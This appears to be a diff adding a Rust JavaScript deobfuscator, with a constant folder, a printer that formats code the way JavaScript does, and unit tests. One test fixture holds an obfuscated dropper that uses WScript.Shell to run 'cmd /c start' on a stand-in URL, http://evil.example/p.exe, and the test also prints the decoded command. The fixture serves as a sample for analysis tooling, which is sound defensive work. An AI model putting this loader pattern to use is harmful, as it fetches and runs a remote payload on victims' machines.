+                self.stmt(body);
+            }
+            Stmt::For { init, test, update, body } => {
+                if let Some(init) = init {
+                    self.stmt(init);
+                }
+                for e in test.iter_mut().chain(update) {
+                    self.expr(e);
+                }
+                self.stmt(body);
+            }
+            Stmt::Block(stmts) => self.stmts(stmts),
+            Stmt::Return(None) | Stmt::Break | Stmt::Continue => {}
+        }
+    }
+
+    fn expr(&mut self, expr: &mut Expr) {
+        match expr {
+            Expr::Array(elements) | Expr::Sequence(elements) => {
+                for element in elements {
+                    self.expr(element);
+                }
+            }
+            Expr::Object(properties) => {
+                for (_, value) in properties {
+                    self.expr(value);
+                }
+            }
+            Expr::Function(f) => self.stmts(&mut f.body),
+            Expr::Unary(_, operand) | Expr::Update { target: operand, .. } => self.expr(operand),
+            Expr::Binary(_, left, right) | Expr::Assign(_, left, right) | Expr::Member(left, right) => {
+                self.expr(left);
+                self.expr(right);
+            }
+            Expr::Conditional(test, consequent, alternate) => {
+                self.expr(test);
+                self.expr(consequent);
+                self.expr(alternate);
+            }
+            Expr::Call(callee, args) | Expr::New(callee, args) => {
+                self.expr(callee);
+                for arg in args {
+                    self.expr(arg);
+                }
+            }
+            Expr::Num(_) | Expr::Str(_) | Expr::Bool(_) | Expr::Null | Expr::This | Expr::Ident(_) => {}
+        }
+
+        if let Some(simpler) = self.simplify(expr) {
+            *expr = simpler;
+            self.rewrites += 1;
+        }
+    }
+
+    fn simplify(&self, expr: &Expr) -> Option<Expr> {
+        match expr {
+            Expr::Ident(name) => self.inline.get(name).cloned(),
+            Expr::Member(object, property) => match (&**object, &**property) {
+                (Expr::Ident(name), Expr::Num(index)) => element(self.arrays.get(name)?, *index),
+                (Expr::Array(elements), Expr::Num(index)) if elements.iter().all(Expr::is_literal) => {
+                    element(elements, *index)
+                }
+                _ => None,
+            },
+            Expr::Binary(op, left, right) => fold_binary(op, left, right),
+            Expr::Unary(op, operand) => fold_unary(op, operand),
+            Expr::Call(callee, args) => from_char_code(callee, args),
+            _ => None,
+        }
+    }
+}
+
+fn element(elements: &[Expr], index: f64) -> Option<Expr> {
+    if index.fract() != 0.0 || index < 0.0 {
+        return None;
+    }
+    elements.get(index as usize).cloned()
+}
+
+fn fold_binary(op: &str, left: &Expr, right: &Expr) -> Option<Expr> {
+    let folded = match (op, left, right) {
+        ("+", Expr::Str(a), Expr::Str(b)) => Expr::Str(format!("{}{}", a, b)),
+        ("+", Expr::Str(a), Expr::Num(b)) => Expr::Str(format!("{}{}", a, format_number(*b))),
+        ("+", Expr::Num(a), Expr::Str(b)) => Expr::Str(format!("{}{}", format_number(*a), b)),
+        (_, Expr::Num(a), Expr::Num(b)) => {
+            let value = match op {
+                "+" => a + b,
+                "-" => a - b,
+                "*" => a * b,
+                "/" => a / b,
+                "%" => a % b,
+                _ => return None,
+            };
+            // NaN, Infinity and -0 aren't literals; leave those expressions be
+            if !value.is_finite() || (value == 0.0 && value.is_sign_negative()) {
+                return None;
+            }
+            Expr::Num(value)
+        }
+        _ => return None,
+    };
+    Some(folded)
+}
+
+fn fold_unary(op: &str, operand: &Expr) -> Option<Expr> {
+    match (op, operand) {
+        ("-", Expr::Num(n)) if *n != 0.0 => Some(Expr::Num(-n)),
+        ("+", Expr::Num(n)) => Some(Expr::Num(*n)),
+        ("!", _) => truthiness(operand).map(|truthy| Expr::Bool(!truthy)),
+        _ => None,
+    }
+}
+
+/// Truthiness of a side-effect-free operand, so `!![]` folds to `true`
+fn truthiness(expr: &Expr) -> Option<bool> {
+    match expr {
+        Expr::Bool(b) => Some(*b),
+        Expr::Num(n) => Some(*n != 0.0 && !n.is_nan()),
+        Expr::Str(s) => Some(!s.is_empty()),
+        Expr::Null => Some(false),
+        Expr::Array(elements) if elements.iter().all(Expr::is_literal) => Some(true),
+        Expr::Object(properties) if properties.is_empty() => Some(true),
+        _ => None,
+    }
+}
+
+/// `String.fromCharCode(104, 105)` with constant arguments
+fn from_char_code(callee: &Expr, args: &[Expr]) -> Option<Expr> {
+    let Expr::Member(object, property) = callee else { return None };
+    if **object != Expr::Ident("String".to_string()) || **property != Expr::Str("fromCharCode".to_string()) {
+        return None;
+    }
+    args.iter()
+        .map(|arg| match arg {
+            Expr::Num(n) if n.fract() == 0.0 && (0.0..=65535.0).contains(n) => char::from_u32(*n as u32),
+            _ => None,
+        })
+        .collect::<Option<String>>()
+        .map(Expr::Str)
+}
+
+/// Drop declarators named in `unused`, and `var` statements left empty.
+/// Statements standing alone as an `if` or loop body stay, since removing
+/// them would leave nothing to attach the body to.
+fn remove_declarations(stmts: &mut Vec<Stmt>, unused: &HashSet<&str>) -> usize {
+    let mut removed = 0;
+    for stmt in stmts.iter_mut() {
+        if let Stmt::Var { decls, .. } = stmt {
+            let before = decls.len();
+            decls.retain(|(name, _)| !unused.contains(name.as_str()));
+            removed += before - decls.len();
+        }
+        removed += remove_nested_declarations(stmt, unused);
+    }
+    stmts.retain(|stmt| !matches!(stmt, Stmt::Var { decls, .. } if decls.is_empty()));
+    removed
+}
+
+fn remove_nested_declarations(stmt: &mut Stmt, unused: &HashSet<&str>) -> usize {
+    match stmt {
+        Stmt::Block(stmts) => remove_declarations(stmts, unused),
+        Stmt::Function(f) => remove_declarations(&mut f.body, unused),
+        Stmt::If(_, consequent, alternate) => {
+            remove_nested_declarations(consequent, unused)
+                + alternate.as_mut().map_or(0, |a| remove_nested_declarations(a, unused))
+        }
+        Stmt::While(_, body) | Stmt::For { body, .. } => remove_nested_declarations(body, unused),
+        _ => 0,
+    }
+}
+
+/// JavaScript's Number-to-String: shortest round-trip digits, written out
+/// in full for exponents up to 21 and down to -6, scientific otherwise
+fn format_number(value: f64) -> String {
+    if value.is_nan() {
+        return "NaN".to_string();
+    }
+    if value.is_infinite() {
+        return if value > 0.0 { "Infinity" } else { "-Infinity" }.to_string();
+    }
+    if value == 0.0 {
+        return "0".to_string();
+    }
+
+    let sign = if value < 0.0 { "-" } else { "" };
+    let scientific = format!("{:e}", value.abs());
+    let (mantissa, exponent) = scientific.split_once('e').unwrap_or((&scientific, "0"));
+    let digits = mantissa.replace('.', "");
+    let k = digits.len() as i32;
+    // The decimal point sits after the first `n` digits
+    let n = exponent.parse::<i32>().unwrap_or(0) + 1;
+
+    let body = if k <= n && n <= 21 {
+        format!("{}{}", digits, "0".repeat((n - k) as usize))
+    } else if 0 < n && n <= 21 {
+        format!("{}.{}", &digits[..n as usize], &digits[n as usize..])
+    } else if -6 < n && n <= 0 {
+        format!("0.{}{}", "0".repeat(-n as usize), digits)
+    } else {
+        let exponent = if n > 0 { format!("e+{}", n - 1) } else { format!("e-{}", 1 - n) };
+        if k == 1 {
+            format!("{}{}", digits, exponent)
+        } else {
+            format!("{}.{}{}", &digits[..1], &digits[1..], exponent)
+        }
+    };
+    format!("{}{}", sign, body)
+}
+
+fn is_identifier(name: &str) -> bool {
+    let mut chars = name.chars();
+    chars.next().is_some_and(|c| c.is_alphabetic() || c == '_' || c == '$')
+        && chars.all(|c| c.is_alphanumeric() || c == '_' || c == '$')
+}
+
+fn quote(value: &str) -> String {
+    let mut quoted = String::with_capacity(value.len() + 2);
+    quoted.push('"');
+    for c in value.chars() {
+        match c {
+            '"' => quoted.push_str("\\\""),
+            '\\' => quoted.push_str("\\\\"),
+            '\n' => quoted.push_str("\\n"),
+            '\r' => quoted.push_str("\\r"),
+            '\t' => quoted.push_str("\\t"),
+            c if (c as u32) < 0x20 || c == '\u{7f}' => quoted.push_str(&format!("\\x{:02x}", c as u32)),
+            '\u{2028}' | '\u{2029}' => quoted.push_str(&format!("\\u{:04x}", c as u32)),
+            c => quoted.push(c),
+        }
+    }
+    quoted.push('"');
+    quoted
+}
+
+const INDENT: &str = "    ";
+
+fn print_program(program: &[Stmt]) -> String {
+    let mut out = String::new();
+    for stmt in program {
+        print_stmt(stmt, 0, &mut out);
+    }
+    out
+}
+
+fn print_stmt(stmt: &Stmt, indent: usize, out: &mut String) {
+    let pad = INDENT.repeat(indent);
+    match stmt {
+        Stmt::Var { .. } => out.push_str(&format!("{}{};\n", pad, declaration(stmt, indent))),
+        Stmt::Expr(expr) => {
+            let text = print_expr(expr, 1, indent);
+            // A leading `function` or `{` would read as a declaration or block
+            if text.starts_with("function") || text.starts_with('{') {
+                out.push_str(&format!("{}({});\n", pad, text));
+            } else {
+                out.push_str(&format!("{}{};\n", pad, text));
+            }
+        }
+        Stmt::Function(f) => out.push_str(&format!("{}{}\n", pad, print_function(f, indent))),
+        Stmt::Return(None) => out.push_str(&format!("{}return;\n", pad)),
+        Stmt::Return(Some(value)) => out.push_str(&format!("{}return {};\n", pad, print_expr(value, 1, indent))),
+        Stmt::Throw(value) => out.push_str(&format!("{}throw {};\n", pad, print_expr(value, 1, indent))),
+        Stmt::Break => out.push_str(&format!("{}break;\n", pad)),
+        Stmt::Continue => out.push_str(&format!("{}continue;\n", pad)),
+        Stmt::Block(stmts) => {
+            out.push_str(&format!("{}{{\n", pad));
+            for stmt in stmts {
+                print_stmt(stmt, indent + 1, out);
+            }
+            out.push_str(&format!("{}}}\n", pad));
+        }
+        Stmt::If(test, consequent, alternate) => {
+            out.push_str(&format!("{}if ({}) {{\n", pad, print_expr(test, 1, indent)));
+            print_body(consequent, indent, out);
+            out.push_str(&pad);
+            out.push('}');
+            let mut alternate = alternate.as_deref();
+            while let Some(stmt) = alternate {
+                if let Stmt::If(test, consequent, next) = stmt {
+                    out.push_str(&format!(" else if ({}) {{\n", print_expr(test, 1, indent)));
+                    print_body(consequent, indent, out);
+                    alternate = next.as_deref();
+                } else {
+                    out.push_str(" else {\n");
+                    print_body(stmt, indent, out);
+                    alternate = None;
+                }
+                out.push_str(&pad);
+                out.push('}');
+            }
+            out.push('\n');
+        }
+        Stmt::While(test, body) => {
+            out.push_str(&format!("{}while ({}) {{\n", pad, print_expr(test, 1, indent)));
+            print_body(body, indent, out);
+            out.push_str(&format!("{}}}\n", pad));
+        }
+        Stmt::For { init, test, update, body } => {
+            let init = init.as_deref().map_or(String::new(), |init| match init {
+                Stmt::Expr(e) => print_expr(e, 1, indent),
+                _ => declaration(init, indent),
+            });
+            let test = test.as_ref().map_or(String::new(), |t| format!(" {}", print_expr(t, 1, indent)));
+            let update = update.as_ref().map_or(String::new(), |u| format!(" {}", print_expr(u, 1, indent)));
+            out.push_str(&format!("{}for ({};{};{}) {{\n", pad, init, test, update));
+            print_body(body, indent, out);
+            out.push_str(&format!("{}}}\n", pad));
+        }
+    }
+}
+
+/// The inside of a braced body; a lone statement gets the braces it lacked
+fn print_body(stmt: &Stmt, indent: usize, out: &mut String) {
+    match stmt {
+        Stmt::Block(stmts) => {
+            for stmt in stmts {
+                print_stmt(stmt, indent + 1, out);
+            }
+        }
+        _ => print_stmt(stmt, indent + 1, out),
+    }
+}
+
+/// `var a = 1, b` without the semicolon
+fn declaration(stmt: &Stmt, indent: usize) -> String {
+    let Stmt::Var { kind, decls } = stmt else { return String::new() };
+    let decls: Vec<String> = decls
+        .iter()
+        .map(|(name, init)| match init {
+            Some(init) => format!("{} = {}", name, print_expr(init, 2, indent)),
+            None => name.clone(),
+        })
+        .collect();
+    format!("{} {}", kind, decls.join(", "))
+}
+
+fn print_function(function: &Function, indent: usize) -> String {
+    let name = function.name.as_deref().map_or(String::new(), |n| format!(" {}", n));
+    let mut text = format!("function{}({}) {{", name, function.params.join(", "));
+    if function.body.is_empty() {
+        text.push('}');
+        return text;
+    }
+    text.push('\n');
+    for stmt in &function.body {
+        print_stmt(stmt, indent + 1, &mut text);
+    }
+    text.push_str(&INDENT.repeat(indent));
+    text.push('}');
+    text
+}
+
+fn print_expr(expr: &Expr, min_precedence: u8, indent: usize) -> String {
+    let text = match expr {
+        Expr::Num(n) => format_number(*n),
+        Expr::Str(s) => quote(s),
+        Expr::Bool(b) => b.to_string(),
+        Expr::Null => "null".to_string(),
+        Expr::This => "this".to_string(),
+        Expr::Ident(name) => name.clone(),
+        Expr::Array(elements) => format!("[{}]", print_list(elements, indent)),
+        Expr::Object(properties) if properties.is_empty() => "{}".to_string(),
+        Expr::Object(properties) => {
+            let properties: Vec<String> = properties
+                .iter()
+                .map(|(key, value)| {
+                    let key = if is_identifier(key) { key.clone() } else { quote(key) };
+                    format!("{}: {}", key, print_expr(value, 2, indent))
+                })
+                .collect();
+            format!("{{ {} }}", properties.join(", "))
+        }
+        Expr::Function(f) => print_function(f, indent),
+        Expr::Unary(op, operand) => {
+            // Keep `- -x` and `+ +x` from printing as `--x` and `++x`
+            let operand_text = print_expr(operand, 15, indent);
+            if op.chars().all(char::is_alphabetic) {
+                format!("{} {}", op, operand_text)
+            } else if matches!(*op, "-" | "+") && operand_text.starts_with(['-', '+']) {
+                format!("{}({})", op, operand_text)
+            } else {
+                format!("{}{}", op, operand_text)
+            }
+        }
+        Expr::Update { op, prefix: true, target } => format!("{}{}", op, print_expr(target, 17, indent)),
+        Expr::Update { op, prefix: false, target } => format!("{}{}", print_expr(target, 17, indent), op),
+        Expr::Binary(op, left, right) => {
+            let p = precedence(expr);
+            let (left_min, right_min) = if *op == "**" { (p + 1, p) } else { (p, p + 1) };
+            format!("{} {} {}", print_expr(left, left_min, indent), op, print_expr(right, right_min, indent))
+        }
+        Expr::Assign(op, target, value) => {
+            format!("{} {} {}", print_expr(target, 17, indent), op, print_expr(value, 2, indent))
+        }
+        Expr::Conditional(test, consequent, alternate) => format!(
+            "{} ? {} : {}",
+            print_expr(test, 4, indent),
+            print_expr(consequent, 2, indent),
+            print_expr(alternate, 2, indent)
+        ),
+        Expr::Call(callee, args) => format!("{}({})", print_object(callee, indent), print_list(args, indent)),
+        Expr::New(callee, args) => {
+            let callee_text = if has_call(callee) {
+                format!("({})", print_expr(callee, 1, indent))
+            } else {
+                print_object(callee, indent)
+            };
+            format!("new {}({})", callee_text, print_list(args, indent))
+        }
+        Expr::Member(object, property) => {
+            let object_text = match &**object {
+                Expr::Num(_) => format!("({})", print_expr(object, 1, indent)),
+                _ => print_object(object, indent),
+            };
+            match &**property {
+                Expr::Str(name) if is_identifier(name) => format!("{}.{}", object_text, name),
+                _ => format!("{}[{}]", object_text, print_expr(property, 1, indent)),
+            }
+        }
+        Expr::Sequence(exprs) => exprs.iter().map(|e| print_expr(e, 2, indent)).collect::<Vec<_>>().join(", "),
+    };
+
+    if precedence(expr) < min_precedence {
+        format!("({})", text)
+    } else {
+        text
+    }
+}
+
+/// The object of a member access or the callee of a call
+fn print_object(expr: &Expr, indent: usize) -> String {
+    match expr {
+        Expr::Function(_) | Expr::Object(_) => format!("({})", print_expr(expr, 1, indent)),
+        _ => print_expr(expr, 17, indent),
+    }
+}
+
+fn print_list(exprs: &[Expr], indent: usize) -> String {
+    exprs.iter().map(|e| print_expr(e, 2, indent)).collect::<Vec<_>>().join(", ")
+}
+
+/// Whether a `new` callee needs parentheses to keep a call inside it from
+/// being taken as the constructor's arguments
+fn has_call(expr: &Expr) -> bool {
+    match expr {
+        Expr::Call(..) => true,
+        Expr::Member(object, _) => has_call(object),
+        _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_string_array_lookups_resolved_to_plain_calls() {
+        let source = r#"
+            var _0x4e1f = ['\x57\x53\x63\x72\x69\x70\x74\x2e\x53\x68\x65\x6c\x6c', 'Run', 'Active' + 'XObject', 'http://', 'evil.example/p.exe'];
+            var _0x2b = _0x4e1f[0x3] + _0x4e1f[0x4];
+            var _0x9c = new window[_0x4e1f[0x2]](_0x4e1f[0x0]);
+            _0x9c[_0x4e1f[0x1]](String.fromCharCode(99, 109, 100) + ' /c start ' + _0x2b, 0x0, !![]);
+        "#;
+
+        let output = deobfuscate(source).unwrap();
+
+        assert_eq!(
+            output.code,
+            "var _0x9c = new window.ActiveXObject(\"WScript.Shell\");\n\
+             _0x9c.Run(\"cmd /c start http://evil.example/p.exe\", 0, true);\n"
+        );
+        assert!(output.rewrites > 0);
+    }
+
+    #[test]
+    fn test_unsupported_syntax_is_a_parse_error() {
+        assert!(deobfuscate("var re = /ab+c/g;").is_err());
+        assert!(deobfuscate("var s = `hi ${name}`;").is_err());
+        assert!(deobfuscate("var f = (a) => a;").is_err());
+    }
+
+    #[test]
+    fn test_long_chains_rejected_instead_of_overflowing() {
+        let terms = vec!["1"; 50_000].join("+");
+        assert!(deobfuscate(&format!("var s = {};", terms)).is_err());
+
+        let members = "a".to_string() + &".b".repeat(50_000);
+        assert!(deobfuscate(&format!("{};", members)).is_err());
+
+        // Chains well under the limit still fold
+        let short = vec!["'a'"; 50].join("+");
+        assert_eq!(deobfuscate(&format!("x({});", short)).unwrap().code, format!("x(\"{}\");\n", "a".repeat(50)));
+    }
+
+    #[test]
+    fn test_hoisted_reads_not_inlined() {
+        // `v` is still undefined when the first statement runs
+        let output = deobfuscate("log(v); var v = 'secret';").unwrap();
+        assert_eq!(output.code, "log(v);\nvar v = \"secret\";\n");
+
+        // Nor can the call order of a nested function be known
+        let output = deobfuscate("f(); var k = 'secret'; function f() { log(k); }").unwrap();
+        assert_eq!(output.code, "f();\nvar k = \"secret\";\nfunction f() {\n    log(k);\n}\n");
+
+        assert_eq!(deobfuscate("var v = 'secret'; log(v);").unwrap().code, "log(\"secret\");\n");
+    }
+
+    #[test]
+    fn test_numbers_formatted_like_javascript() {
+        assert_eq!(deobfuscate("x('a' + 1e20);").unwrap().code, "x(\"a100000000000000000000\");\n");
+        assert_eq!(deobfuscate("x('a' + 1e21);").unwrap().code, "x(\"a1e+21\");\n");
+        assert_eq!(deobfuscate("x('a' + 2.5e-7);").unwrap().code, "x(\"a2.5e-7\");\n");
+        assert_eq!(deobfuscate("x('a' + 0.000001);").unwrap().code, "x(\"a0.000001\");\n");
+        assert_eq!(deobfuscate("x('a' + 123.45);").unwrap().code, "x(\"a123.45\");\n");
+        assert_eq!(deobfuscate("x('a' + 0x10);").unwrap().code, "x(\"a16\");\n");
+        assert_eq!(format_number(-1.5e300), "-1.5e+300");
+        assert_eq!(format_number(-0.0), "0");
+        assert_eq!(format_number(f64::NAN), "NaN");
+    }
+
+    #[test]
+    fn test_clean_code_reformatted_without_rewrites() {
+        let output = deobfuscate("function add(a,b){if(a>b)return a-b;else return (a+b)*2}").unwrap();
+
+        assert_eq!(output.rewrites, 0);
+        assert_eq!(
+            output.code,
+            "function add(a, b) {\n    if (a > b) {\n        return a - b;\n    } else {\n        return (a + b) * 2;\n    }\n}\n"
+        );
+    }
+}